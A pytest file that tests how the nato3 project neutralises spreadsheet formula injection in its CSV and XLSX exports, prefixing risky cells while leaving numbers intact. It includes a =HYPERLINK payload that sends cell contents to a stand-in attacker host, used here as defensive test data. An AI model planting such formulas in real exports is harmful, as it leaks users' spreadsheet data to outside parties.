"""CSV cells a spreadsheet will not run as formulas, in every CSV nato3 writes; numbers untouched."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from nato3.csvsafe import neutralise, safe_frame
from web_support import AUTH, client, make_app

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1, "click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+2 ships; personnel not given", "'+2 ships; personnel not given"),
        ("-700 = about 700", "'-700 = about 700"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3.5", "-3.5"),  # a number written as text is still a number
        ("+4", "+4"),
        ("1e5", "1e5"),
        ("Poland", "Poland"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written


def test_safe_frame_touches_only_text_columns_and_keeps_attrs():
    df = pd.DataFrame({"name": [HYPERLINK, "ok"], "value": [-1.5, 2.0]})
    df.attrs["sources"] = ["x"]
    out = safe_frame(df)
    assert out["name"].tolist() == ["'" + HYPERLINK, "ok"] and out["value"].tolist() == [-1.5, 2.0]
    assert out.attrs == {"sources": ["x"]} and df["name"][0] == HYPERLINK  # the input is not changed


def test_a_saved_scenario_name_reaches_the_csv_as_text(tmp_path):
    """The issue's case: a scenario saved as =HYPERLINK(…) reached ?format=csv verbatim."""
    with client(make_app(tmp_path)) as api:
        r = api.post("/api/v1/scenarios", json={"name": HYPERLINK, "spec": {"horizon": 2030}}, headers=AUTH)
        assert r.status_code == 201, r.text
        body = api.get("/api/v1/scenarios?format=csv").text
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["name"] for row in rows] == ["'" + HYPERLINK]
    assert rows[0]["size_bytes"].isdigit()  # numbers as they were


def test_cli_csv_is_neutralised_and_numbers_stay(cli):
    """force_posture_events has two notes that start like formulas (+2 ships, -700 = …)."""
    code, out, err = cli("data", "show", "force_posture_events", "--format", "csv")
    assert code == 0, err
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'+2 ships; personnel not given" in cells
    assert any(c.startswith("'-700 = about 700 airborne troops") for c in cells)
    assert not [c for c in cells if neutralise(c) != c]  # nothing left a spreadsheet would run
    assert "-12000" in cells  # the withdrawal of 12,000 (FP005) is still a negative number


def test_xlsx_export_never_writes_a_live_formula(cli, tmp_path, monkeypatch):
    """A text cell a spreadsheet would run (a saved scenario named =HYPERLINK(…), say) is written as text."""
    import openpyxl
    import pandas as pd

    import nato3.api

    frame = pd.DataFrame({"name": ['=HYPERLINK("http://x","y")', "Poland"], "value": [-1.5, 2.0]})
    monkeypatch.setattr(nato3.api, "load", lambda *args, **kwargs: frame.copy())
    out = tmp_path / "x.xlsx"
    code, _, err = cli("data", "export", "countries", "--format", "xlsx", "-o", str(out))
    assert code == 0, err
    cell = openpyxl.load_workbook(out)["countries"]["A2"]
    assert cell.data_type == "s" and cell.value == '\'=HYPERLINK("http://x","y")'
    assert openpyxl.load_workbook(out)["countries"]["B2"].value == -1.5
